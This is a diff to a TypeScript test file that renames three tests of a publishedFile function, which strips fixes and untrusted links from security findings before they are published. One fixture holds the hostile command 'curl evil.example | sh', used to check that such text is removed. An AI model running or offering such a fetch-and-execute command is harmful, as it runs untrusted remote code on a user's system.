@@ -46,7 +46,7 @@ const DECISION: Decision = {
   ],
 };
 
-it('publishedFile removes fixes, and replaces links by the page on osv.dev', () => {
+it('publishedFile removes fixes, and replaces links with the page on osv.dev', () => {
   const file = publishedFile(FINDINGS);
   expect(JSON.stringify(file)).not.toMatch(/evil\.example/);
   expect(file).toMatchObject({
@@ -56,7 +56,7 @@ it('publishedFile removes fixes, and replaces links by the page on osv.dev', () 
   });
 });
 
-it('publishedFile replaces the texts of a rule by a link to the page of the rule', () => {
+it("publishedFile replaces the texts of a rule with a link to the rule's page", () => {
   const rule = { why: EVIL, fix: 'curl evil.example | sh', references: [EVIL] };
   const audited = auditFinding({ rule, url: EVIL, description: EVIL });
   const file = publishedFile({ ...FINDINGS, findings: [audited], fixed: [] });
@@ -96,7 +96,7 @@ it('publishedFile removes the run and the log entry of verified evidence', () =>
   });
 });
 
-it('publishedFile keeps all other files', () => {
+it('publishedFile does not change any other files', () => {
   const documents = { kind: 'assay/documents/v1', documents: [] } as never;
   expect(publishedFile(documents)).toBe(documents);
 });
